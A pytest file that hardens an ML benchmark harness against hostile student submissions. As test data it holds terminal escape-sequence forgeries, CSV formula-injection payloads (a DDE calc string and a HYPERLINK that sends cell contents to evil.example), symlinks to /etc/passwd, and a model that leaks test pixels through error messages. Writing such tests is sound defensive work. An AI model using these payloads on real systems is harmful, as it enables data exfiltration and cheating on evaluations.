"""Untrusted files and text (issue 28, items 5 and 6): nothing an entry wrote is published as it is, and files from
the repository or from a run are data, never followed.

Each test is an attack that got through before: the audit's output quoted in a FAILED record (test pixels spelt out
by an op's error message), a progress line that rewrites the terminal, a hidden test set's per-image correctness in
a committed record, a gradebook cell that runs as a formula, links and pipes among the entries and helpers, a deep
output tree, and a pull request that carries more than one entry's file.
"""

from __future__ import annotations

import html
import io
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from bench import arrays, cli, config, containment, discover, executors, leaderboard, plan, received, results, runner, sandbox, scoring, stages, untrusted
from bench.status import FAILED, INVALID, TIMEOUT
from bench.train import PROGRESS_PREFIX
from conftest import TINY

AUDIT = "the audit of the exported model"
# What an op's error message would carry if it spelt out the test images.
PIXELS = "LEAKED_PIXELS [[0 0 5 13 9 1 0 0]]"
# A terminal line that, printed as it is, erases the line above and writes a fake verdict for another entry.
FAKE_VERDICT = f"{PROGRESS_PREFIX} epoch 1\r\x1b[1A\x1b[2K\x1b[31mFAILED  rival seed 0\x1b[0m\x07\x9b2J"
WORKFLOWS = Path(__file__).resolve().parent.parent / ".github" / "workflows"


def challenge_in(tmp_path, **settings) -> config.Challenge:
    return config.from_dict({**TINY, "results": str(tmp_path / "results"), "leaderboard": str(tmp_path / "board.md"), **settings})


def deep_folder(root: Path, depth: int) -> None:
    """`root`/a/a/.../a, `depth` levels, made one level at a time relative to an open folder (no long paths)."""
    root.mkdir(parents=True, exist_ok=True)
    here = os.open(root, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("a", dir_fd=here)
        below = os.open("a", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


@pytest.fixture
def deep_folder_at():
    """deep_folder, with every tree it made removed at teardown (pytest's own clean-up of old temporary folders
    uses shutil.rmtree, which a 1,500-deep tree would end with a RecursionError)."""
    made = []

    def make(root: Path, depth: int) -> None:
        made.append(root)
        deep_folder(root, depth)

    yield make
    for root in made:
        untrusted.remove_tree(root)


def finishes(function, seconds=20.0):
    """Run `function` in a thread; its result, or a failed assertion when it is still running after `seconds` (a hang)."""
    outcome = {}
    thread = threading.Thread(target=lambda: outcome.update(value=function()), daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"{function} did not return within {seconds} s"
    return outcome["value"]


# ---- 5. Nothing the entry wrote is published as it is ------------------------------------------------------

def test_an_audit_that_dies_quotes_nothing_it_printed():
    """An op that fails on test batches only, its message built from the pixels: the audit's traceback used to be
    the FAILED record's message (its last line) and output_tail (40 lines), both committed."""
    tail = ["Traceback (most recent call last):", "MemoryError", f"InvalidArgumentError: assertion failed: {PIXELS}"]
    partial = stages._ended_early({"limit": None, "tail": tail, "returncode": 1}, 600, 2000, AUDIT)
    assert partial["status"] == FAILED
    assert "LEAKED" not in json.dumps(partial) and "output_tail" not in partial
    assert "exit code 1" in partial["message"] and "python -m bench check" in partial["message"]
    killed = stages._ended_early({"limit": None, "tail": tail, "returncode": -9}, 600, 2000, AUDIT)
    assert "killed by signal SIGKILL" in killed["message"] and "LEAKED" not in json.dumps(killed)


def test_an_audit_past_its_time_limit_quotes_no_progress_line():
    tail = [f"{PROGRESS_PREFIX} {PIXELS}"]
    partial = stages._ended_early({"limit": containment.TIME, "tail": tail, "returncode": -9}, 300, 2000, AUDIT)
    assert partial["status"] == TIMEOUT and "300 s" in partial["message"]
    assert "LEAKED" not in json.dumps(partial)


def test_the_training_stage_still_quotes_its_own_error():
    """Training never sees a test image: its last line stays the explanation a student needs."""
    tail = ["Traceback (most recent call last):", '  File "submissions/ada.py", line 9, in build_model',
            "    raise ValueError('my layer is wrong')", "ValueError: my layer is wrong"]
    partial = stages._ended_early({"limit": None, "tail": tail, "returncode": 1}, 600, 2000, stages.QUOTED_STAGE)
    assert "ValueError: my layer is wrong" in partial["message"] and partial["output_tail"] == tail


def test_what_the_training_process_prints_is_kept_bounded_and_clean_and_never_shown():
    tail = []
    stages._drain(io.BytesIO(f"{FAKE_VERDICT}\n{PROGRESS_PREFIX} {'x' * 5000}\nbad \ud800 surrogate\n".encode("utf-8", "surrogatepass")), tail)
    assert len(tail) == 3
    for line in tail:
        assert len(line) <= stages.MAX_LINE_CHARS
        assert not any(ord(c) < 32 or 0x7f <= ord(c) <= 0x9f or 0xd800 <= ord(c) <= 0xdfff for c in line), repr(line)
    assert tail[0].endswith("FAILED  rival seed 0")  # the text stays readable, on its own line's end


def test_the_progress_lines_are_the_runners_own_answers():
    """A line the entry prints that reads like the harness's ("[bench] victim seed 0: ... its record is void") never
    reaches the terminal (above); what does is composed by the runner from the validation it answered."""
    from bench import validation

    logged = []
    run = plan.Run(path=Path("results/digits/ada/seed0.json"), submission=None, seed=0, key={}, build_kwargs={}, eval_kwargs={})
    harness = validation.Harness(np.array([0, 1, 1, 0]), 2, 5, on_answer=stages.progress_line(run, 5, logged.append))
    harness.answer(0, np.array([[0.9, 0.1], [0.2, 0.8], [0.6, 0.4], [0.7, 0.3]], dtype=np.float32), False)
    assert len(logged) == 1 and logged[0].startswith(f"{PROGRESS_PREFIX} ada seed 0: epoch 1/5 val_loss=")
    assert "val_accuracy=0.7500" in logged[0]


SURROGATE = "bad shape \ud800"


def test_a_bare_address_in_a_summary_or_author_is_not_a_link_on_the_board():
    shown = leaderboard.cell("see https://grades-login.example.com/reset, www.evil.example or mail eve@evil.example")
    assert "://" not in shown and "www." not in shown and "@" not in shown
    assert html.unescape(shown) == "see https://grades-login.example.com/reset, www.evil.example or mail eve@evil.example"


def test_an_address_after_an_underscore_is_not_a_link_on_the_board():
    """GitHub autolinks `www.` after `_` (a delimiter to it, a word character to a regex's \\b): a red team's AUTHOR
    "_www.example.org" and a summary ending "see _www.example.org" became links on leaderboard.md."""
    for text in ("_www.example.org", "see _www.example.org for details", "*_www.example.org_*"):
        shown = leaderboard.cell(text)
        assert "www." not in shown and html.unescape(shown) == text


def test_a_lone_surrogate_in_a_message_or_author_neither_crashes_the_runner_nor_empties_the_board(tmp_path, capsys):
    record = stored(tmp_path, {"status": FAILED, "message": f"ValueError: {SURROGATE}", "notes": [SURROGATE]})
    assert record["message"] == "ValueError: bad shape " and record["notes"] == ["bad shape "]
    json.dumps(record).encode("utf-8")  # a record of text UTF-8 can hold
    # A record that holds one anyway (written before this rule) renders, and the board is written whole.
    challenge = challenge_in(tmp_path)
    path = results.record_path(challenge.results, challenge.dataset, "eve", 0)
    results.write(path, {**record, "entry": "eve", "author": f"Mallory {SURROGATE}", "message": SURROGATE})
    board = leaderboard.write(challenge)
    assert "eve" in board.read_text() and board.stat().st_size > 0


@pytest.mark.parametrize("rewritten", ['{"status": "OK", "message": "", "notes": ' + "[" * 200_000 + "]" * 200_000 + "}",
                                       '{"status": "OK", "message": "", "train_macs": 1e999}',
                                       '{"status": "OK", "message": "", "history": {"loss": [1' + "0" * 4000 + ']}}'])
def test_a_result_file_nested_too_deep_or_holding_infinity_fails_its_own_run(tmp_path, rewritten):
    path = tmp_path / "result.json"
    path.write_text(rewritten)
    partial = received.read_result(path)
    assert partial["status"] == FAILED and "not a record" in partial["message"]


def stored(tmp_path, partial: dict, name: str = "ada") -> dict:
    """The record `runner.store` writes for `partial`, read back from disk."""
    entry = tmp_path / "submissions" / f"{name}.py"
    entry.parent.mkdir(exist_ok=True)
    entry.write_text(f'"""{name}: \\x1b[2J a summary"""\nAUTHOR = "\\x1b]0;pwned\\x07Ada\\rFAILED"\n')
    challenge = challenge_in(tmp_path)
    (run,) = plan.plan(challenge, [discover.read(entry)], "fingerprint", [0])
    runner.store(challenge, run, partial, 1.0, 1, log=lambda line: None)
    return json.loads(run.path.read_text())


def test_records_hold_bounded_text_without_control_characters(tmp_path):
    partial = {"status": FAILED, "message": f"ada.py, line 3 -> ValueError: {FAKE_VERDICT}\nsecond line" + "y" * 100_000,
               "traceback": "t\x1b[0m" * 50_000, "notes": ["a note\r\x1b[2Kforged"] * 100,
               "output_tail": [FAKE_VERDICT * 100] * 500}
    record = stored(tmp_path, partial)
    for name in ("message", "traceback", "summary", "author"):
        text = record[name]
        assert not any(ord(c) < 32 and c != "\n" or 0x7f <= ord(c) <= 0x9f for c in text), (name, text[:80])
        assert len(text) <= received.PUBLISHED_TEXT[name][0]
    assert record["message"].splitlines()[1].startswith("second line")  # a message keeps its lines
    assert "\n" not in record["author"] and record["author"].startswith("Ada")
    assert len(record["notes"]) <= 2 * received.MAX_NOTES and all("\r" not in n and "\x1b" not in n for n in record["notes"])
    assert len(record["output_tail"]) <= stages.OUTPUT_TAIL_LINES
    assert all(len(line) <= stages.MAX_LINE_CHARS and "\x1b" not in line for line in record["output_tail"])


def test_a_hidden_test_sets_per_image_correctness_is_never_committed(tmp_path):
    """Which hidden images a run got right, published after every run, would let an author recover the hidden
    labels. The number of images stays (the board's standard error uses it); the paired test is off."""
    correct = scoring.pack_correct(np.arange(360) % 3 == 0)
    common = {"status": "OK", "message": "", "test_accuracy": 0.33, "total_params": 10, "epochs": 1, "train_seconds": 1.0}
    hidden = stored(tmp_path, {**common, "test_correct": correct, "test_set": "hidden test set h.npz (360 images, sha256 x)"})
    assert hidden["test_correct"] == {"images": 360}
    assert scoring.unpack_correct(hidden["test_correct"]) is None
    assert scoring.pair_p_values([({0: hidden}, {0: hidden})]) == [None]
    public = stored(tmp_path, {**common, "test_correct": correct}, name="bob")
    assert public["test_correct"] == correct  # the public split keeps its bits for McNemar's test


def test_gradebook_cells_that_would_run_as_formulas_are_quoted(tmp_path, capsys):
    base = {"seed": 0, "dataset": "digits", "status": "OK", "message": "", "trainable_params": 90, "test_accuracy": 0.8,
            "epochs": 2, "train_seconds": 1.0, "summary": "+cmd|' /C calc'!A0", "build_kwargs": {}, "eval_kwargs": {},
            "versions": {}}
    challenge = config.from_dict({"dataset": "digits", "seeds": 1})
    rows = [{**base, "entry": "ada", "author": '=HYPERLINK("http://evil.example/?"&A1,"grade")', "total_params": 90},
            {**base, "entry": "bob", "author": "@SUM(1+1)", "total_params": 95, "status": "FAILED", "test_accuracy": None,
             "message": "-2+3 is what it printed"}]
    for row in rows:
        row["key"] = {"config": challenge.protocol_hash(), "hash": row["entry"]}
        results.write(results.record_path(tmp_path / "results", "digits", row["entry"], 0), row)
    assert cli.main(["leaderboard", "--dataset", "digits", "--seeds", "1", "--results", str(tmp_path / "results"),
                     "--config", str(tmp_path / "none.toml"), "--format", "csv"]) == 0
    frame = pd.read_csv(io.StringIO(capsys.readouterr().out)).set_index("entry")
    assert frame.loc["ada", "author"].startswith("'=HYPERLINK(")
    assert frame.loc["ada", "summary"].startswith("'+cmd|")
    assert frame.loc["bob", "author"] == "'@SUM(1+1)" and frame.loc["bob", "message"] == "'-2+3 is what it printed"
    assert frame.loc["ada", "test_accuracy"] == 0.8  # numbers stay numbers
    assert [leaderboard.gradebook_cell(v) for v in ("-0.5", -0.5, "+3", "1e-3", "-", "-x")] == ["-0.5", -0.5, "+3", "1e-3", "'-", "'-x"]
    # A red team's: blanks before the formula, a space or a no-break space.
    assert [leaderboard.gradebook_cell(v) for v in (" =HYPERLINK(1)", "\u00a0=1+1", " -0.5", "a =1")] == [
        "' =HYPERLINK(1)", "'\u00a0=1+1", " -0.5", "a =1"]


def test_the_audit_never_shows_or_records_what_an_op_spelt_out_from_the_test_images(tmp_path):
    """The attack end to end, sandboxed: a gather that goes out of range on the test batch alone (its size), so that
    TensorFlow's error message spells out an index made of the batch's first pixels (1,777,000 + a pixel). The run
    fails (or is refused); neither its record nor the terminal shows that index."""
    if sandbox.unavailable():
        pytest.skip(f"bubblewrap: {sandbox.unavailable()}")
    challenge = challenge_in(tmp_path, sandbox="required", seeds=1, max_epochs=1)
    test_images = len(np.load(arrays.inputs(challenge).test_images_file))
    entry = tmp_path / "submissions" / "speller.py"
    entry.parent.mkdir()
    entry.write_text(f'''
import keras, tensorflow as tf

def spell(x):
    n = tf.shape(x)[0]
    pixels = tf.cast(tf.reshape(x, [n, -1])[0, :8] * 16, "int32")
    # In range (0) on every batch but the test set's, where the index is 777000 + 1000000 + a pixel.
    index = tf.where(tf.equal(n, {test_images}), 777000 + 1000000 + pixels, 0 * pixels)
    picked = tf.gather(tf.reshape(x, [n, -1])[0], index)
    return x + 0.0 * tf.reduce_sum(picked)

def build_model(input_shape, num_classes):
    inputs = keras.Input(input_shape)
    x = keras.layers.Flatten()(keras.layers.Lambda(spell, output_shape=tuple(input_shape))(inputs))
    return keras.Model(inputs, keras.layers.Dense(num_classes, activation="softmax")(x))
''')
    shown = []
    runs = plan.plan(challenge, [discover.read(entry)], "fingerprint", [0])
    (record,) = runner.execute(challenge, runs, log=shown.append)
    assert record["status"] in (FAILED, INVALID), record["message"]  # FAILED today: the audit crashed on the test batch
    assert "17770" not in json.dumps(record) and "17770" not in "\n".join(shown), record["message"]
    assert record["status"] != FAILED or AUDIT in record["message"], record["message"]


# ---- 6. Files from the repository are data, never followed ------------------------------------------------

@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "hidden_test.npz"
    path.write_text("the hidden labels")
    return path


def test_discovery_refuses_an_entry_that_is_a_link_a_pipe_a_folder_or_too_large(tmp_path, secret):
    folder = tmp_path / "submissions"
    folder.mkdir()
    (folder / "honest.py").write_text("x = 1\n")
    (folder / "linked.py").symlink_to(secret)
    (folder / "dangling.py").symlink_to(tmp_path / "nowhere.py")
    os.mkfifo(folder / "piped.py")
    (folder / "folder.py").mkdir()
    (folder / "huge.py").write_text("#" * (untrusted.MAX_SOURCE_BYTES + 1))
    found = {s.name: s for s in finishes(lambda: discover.find(None, str(folder)))}
    assert found["honest"].ok
    for name, kind in (("linked", "symbolic link"), ("dangling", "symbolic link"), ("piped", "named pipe"), ("folder", "a folder")):
        assert not found[name].ok and kind in found[name].problem and "replace it with the file itself" in found[name].problem
    assert "over the limit" in found["huge"].problem and "make it smaller" in found["huge"].problem


@pytest.mark.parametrize("target", ["/dev/zero", "dangling", "/proc/uptime", "secret"])
def test_a_linked_helper_is_never_read_and_never_retrains(tmp_path, secret, target):
    """A helper `_x.py` linked to /dev/zero (an endless read), to nothing, to /proc/uptime (new content every run)
    or to a secret: discovery refuses the folder's entries, saying which helper; the cache key never depends on what
    the link points to; nothing is copied into the job folder; the Ray executor ships only the regular files."""
    folder = tmp_path / "submissions"
    folder.mkdir()
    entry = folder / "ada.py"
    entry.write_text("import _x\n")
    points_to = {"dangling": tmp_path / "nowhere", "secret": secret}.get(target, Path(target))
    (folder / "_x.py").symlink_to(points_to)
    submission = finishes(lambda: discover.read(entry))
    assert not submission.ok and "_x.py is a symbolic link" in submission.problem and "helper" in submission.problem
    challenge = challenge_in(tmp_path)
    key_of = lambda: plan.plan(challenge, [submission], "fingerprint", [0])[0].key["hash"]
    first = finishes(key_of)
    secret.write_text("other hidden labels")
    assert finishes(key_of) == first  # the same key, run after run
    job = tmp_path / "job"
    job.mkdir()
    problem = finishes(lambda: stages.copy_entry(submission, job))
    assert problem and "_x.py is a symbolic link" in problem and not (job / "_x.py").exists()
    shipped = finishes(lambda: executors.entry_files(entry))
    assert set(shipped) == {"ada.py"}


def test_a_helper_swapped_for_a_link_after_discovery_is_not_followed(tmp_path, secret, monkeypatch):
    folder = tmp_path / "submissions"
    folder.mkdir()
    entry = folder / "ada.py"
    entry.write_text("import _x\n")
    (folder / "_x.py").write_text("VALUE = 1\n")
    submission = discover.read(entry)
    assert submission.ok
    (folder / "_x.py").unlink()
    (folder / "_x.py").symlink_to(secret)
    job = tmp_path / "job"
    job.mkdir()
    problem = stages.copy_entry(submission, job)
    assert problem and "symbolic link" in problem
    assert not any(b"hidden labels" in p.read_bytes() for p in job.iterdir())
    # Even past the check (a swap between lstat and open), the open refuses to follow it.
    monkeypatch.setattr(untrusted, "regular_file_problem", lambda path, limit=0: None)
    with pytest.raises(untrusted.Refused, match="cannot be opened as a regular file"):
        untrusted.read_regular(folder / "_x.py")


def test_an_entry_changed_since_discovery_is_not_trained_under_the_old_key(tmp_path):
    entry = tmp_path / "submissions" / "ada.py"
    entry.parent.mkdir()
    entry.write_text("x = 1\n")
    submission = discover.read(entry)
    entry.write_text("x = 2\n")
    problem = stages.copy_entry(submission, tmp_path)
    assert problem and "changed while the evaluation ran" in problem


def test_a_deep_output_tree_fails_its_run_and_is_removed(tmp_path, deep_folder_at):
    """1,500 nested folders in the training output: os.walk and shutil.rmtree recurse once per level, and their
    RecursionError ended the evaluation (no records for anyone, the tree left in /tmp)."""
    output = tmp_path / "train"
    deep_folder_at(output, 1500)
    problem = received.untrusted_tree_problem(output)
    assert problem and f"nested more than {received.MAX_OUTPUT_DEPTH} deep" in problem
    with untrusted.temporary_folder("bench-test-") as work:
        deep_folder(Path(work) / "train", 1500)
        (Path(work) / "train" / "link").symlink_to(tmp_path)  # removed as a link, its target kept
    assert not Path(work).exists() and tmp_path.exists()
    untrusted.remove_tree(output)
    assert not output.exists()


def test_a_wide_or_large_output_tree_fails_its_run(tmp_path, monkeypatch):
    wide = tmp_path / "wide"
    wide.mkdir()
    for i in range(60):
        (wide / f"f{i}").write_bytes(b"x" * 100)
    monkeypatch.setattr(received, "MAX_OUTPUT_ENTRIES", 50)
    assert "more than 50 files and folders" in received.untrusted_tree_problem(wide)
    monkeypatch.setattr(received, "MAX_OUTPUT_ENTRIES", 10_000)
    monkeypatch.setattr(received, "MAX_OUTPUT_BYTES", 5_000)
    assert "over 5,000 bytes" in received.untrusted_tree_problem(wide)
    os.mkfifo(wide / "pipe")
    monkeypatch.setattr(received, "MAX_OUTPUT_BYTES", 10**9)
    assert "named pipe" in received.untrusted_tree_problem(wide)


def test_the_records_guard_walks_a_deep_tree_a_pipe_and_a_link_without_following_them(tmp_path, deep_folder_at):
    """Outside the sandbox an entry can write into results/: the guard that restores it must neither recurse once
    per level, nor block reading a pipe, nor read /dev/zero through a link."""
    records = tmp_path / "results"
    records.mkdir()
    (records / "seed0.json").write_text("{}")
    guard = containment.ProtectedFiles(records, log=lambda line: None)
    deep_folder_at(records / "deep", 1500)
    os.mkfifo(records / "pipe")
    (records / "zero").symlink_to("/dev/zero")
    changed = finishes(lambda: guard.restore(undo=False))
    assert str(records / "pipe") in changed and str(records / "zero") in changed


# ---- the pull-request gate ----------------------------------------------------------------------------------

def git(repo: Path, *args) -> str:
    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
                          capture_output=True, text=True, check=True).stdout.strip()


@pytest.fixture
def repo(tmp_path) -> Path:
    """A challenge's repository with one entry, a helper and the harness; `base` is its first commit."""
    repo = tmp_path / "repo"
    for name in ("submissions/old.py", "submissions/_helpers.py", "bench/audit.py", "results/digits/old/seed0.json"):
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text("x = 1\n")
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    git(repo, "tag", "base")
    return repo


def gate(repo: Path, capsys) -> tuple[int, str]:
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a pull request", "--allow-empty")
    code = cli.main(["gate", "--config", str(repo / "none.toml"), "--repo", str(repo), "base", "HEAD"])
    return code, capsys.readouterr().out


def test_the_gate_passes_a_pull_request_that_adds_one_entry(repo, capsys):
    (repo / "submissions" / "ada.py").write_text("import keras\n")
    code, said = gate(repo, capsys)
    assert code == 0 and "adds the entry submissions/ada.py" in said


@pytest.mark.parametrize("attack, expected", [
    ("linked_helper", "submissions/_x.py is a symbolic link"),
    ("linked_entry", "submissions/ada.py is a symbolic link"),
    ("harness", "bench/audit.py is not an entry file"),
    ("other_entry", "changes 2 entries"),
    ("rivals_entry", "submissions/old.py is an existing entry"),
    ("helper", "submissions/_helpers.py is a helper"),
    ("record", "results/digits/old/seed0.json is not an entry file"),
    ("nested", "submissions/tests/test_ada.py is not an entry file"),
    ("deleted", "submissions/old.py is deleted"),
    ("huge", "over the limit"),
    ("nothing", "changes no file"),
])
def test_the_gate_fails_a_pull_request_with_a_link_or_a_foreign_file(repo, capsys, attack, expected):
    entry = repo / "submissions" / "ada.py"
    if attack not in ("linked_entry", "deleted", "nothing", "huge", "rivals_entry"):
        entry.write_text("import keras\n")
    if attack == "linked_helper":
        (repo / "submissions" / "_x.py").symlink_to("/etc/passwd")
    elif attack == "linked_entry":
        entry.symlink_to("../results/digits/old/seed0.json")
    elif attack == "harness":
        (repo / "bench" / "audit.py").write_text("SCORE = 1.0\n")
    elif attack == "other_entry":
        (repo / "submissions" / "old.py").write_text("raise SystemExit\n")
    elif attack == "rivals_entry":  # only another student's file, rewritten
        (repo / "submissions" / "old.py").write_text("raise SystemExit\n")
    elif attack == "helper":
        (repo / "submissions" / "_helpers.py").write_text("x = 2\n")
    elif attack == "record":
        (repo / "results" / "digits" / "old" / "seed0.json").write_text("{}\n")
    elif attack == "nested":
        (repo / "submissions" / "tests").mkdir()
        (repo / "submissions" / "tests" / "test_ada.py").write_text("x = 1\n")
    elif attack == "deleted":
        (repo / "submissions" / "old.py").unlink()
    elif attack == "huge":
        entry.write_text("#" * (untrusted.MAX_SOURCE_BYTES + 1))
    code, said = gate(repo, capsys)
    assert code == 1 and expected in said, said


def test_the_gate_workflow_runs_the_base_branchs_gate_on_every_pull_request(repo, tmp_path):
    """pull_request_target: the workflow and the gate come from the base branch, so a pull request cannot edit the
    check that judges it; it never installs or runs the pull request's files. The step runs here as written."""
    workflow = yaml.safe_load((WORKFLOWS / "pull-request-gate.yml").read_text())
    triggers = workflow.pop(True, workflow.get("on"))
    assert list(triggers) == ["pull_request_target"] and not (triggers["pull_request_target"] or {}).get("paths")
    assert workflow["permissions"] == {"contents": "read"}
    steps = workflow["jobs"]["gate"]["steps"]
    checkouts = [step for step in steps if step.get("uses", "").startswith("actions/checkout")]
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)
    assert checkouts[0]["with"]["ref"] == "${{ github.event.pull_request.base.sha }}" and "path" not in checkouts[0]["with"]
    assert checkouts[1]["with"]["path"] == "pull"
    text = (WORKFLOWS / "pull-request-gate.yml").read_text()
    assert "secrets." not in text and "pull/" not in "".join(step.get("run", "") for step in steps if "pip" in step.get("run", ""))
    script = next(step["run"] for step in steps if "bench gate" in step.get("run", ""))
    (repo / "submissions" / "_x.py").symlink_to("/etc/passwd")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a pull request")
    env = {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "BASE_SHA": git(repo, "rev-parse", "base"),
           "HEAD_SHA": git(repo, "rev-parse", "HEAD"), "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    (tmp_path / "pull").symlink_to(repo)
    done = subprocess.run(["bash", "-e", "-c", script], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert done.returncode == 1 and "_x.py is a symbolic link" in done.stdout, done.stdout + done.stderr
